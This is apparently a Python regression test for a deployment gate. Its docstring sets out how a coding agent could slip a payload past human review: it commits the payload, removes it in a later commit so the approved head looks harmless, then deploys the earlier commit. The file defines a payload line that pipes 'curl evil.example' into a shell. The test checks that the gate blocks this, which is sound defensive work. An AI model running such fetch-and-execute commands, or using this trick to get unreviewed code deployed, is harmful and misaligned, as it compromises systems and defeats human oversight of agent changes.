"""Invariant 4 and the deployment gate's reviewed provenance: an approval is for the head
it reviewed, not for every commit on the way to it.

`app/deploy/gather.py::provenance_of` takes a commit that is *behind* a countersigned
head (an ancestor of it: `compare(base, sha).status == "behind"`, no commits introduced)
as reviewed. But a pull request's intermediate commits were never reviewed: the human
approved the head's diff. The agent commits a payload (C1), then a commit that removes it
again and fixes a typo (C2); the maintainer approves the harmless diff of C2. The agent
points a branch at C1 and a human deploys it as a preview: approved at once, as "no
commit that C1 introduces since C2 is an agent's".
"""

from __future__ import annotations

from tests.attacks.harness import MAINTAINER, REPO, Attack

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"


def test_r2_an_intermediate_agent_commit_of_an_approved_head_is_not_deployed_unreviewed(
    attack: Attack,
):
    agent = attack.agent("agent:acme/fixer", "alice")
    agent.create_branch("typo-fix", attack.main())
    payload = agent.commit("typo-fix", "src/app.py", PAYLOAD)  # C1: the payload
    agent.commit("typo-fix", "src/app.py", "print(1)\n")  # C2: takes it out again
    head = agent.commit("typo-fix", "README.md", "# widgets, spelled right\n")
    number = agent.open_pull("typo-fix", base="main", title="Fix a typo")
    assert attack.head(number) == head
    attack.sim.review(REPO, number, MAINTAINER)  # the net diff is harmless: README only
    assert attack.check(number).conclusion == "success"

    # The agent points a branch at C1 and asks for a preview of it.
    agent.create_branch("preview", payload)
    _deployment, run_id = attack.sim.request_deployment(
        REPO, environment="staging", creator=MAINTAINER, ref="preview"
    )
    gate = attack.sim.deployment_gate(run_id, "staging")
    assert gate != "approved", (
        f"{payload[:7]} (the agent's payload, never a reviewed head) was deployed without a "
        f"human's decision: {[r.comment for r in attack.sim.deployment_reviews(run_id)]}"
    )
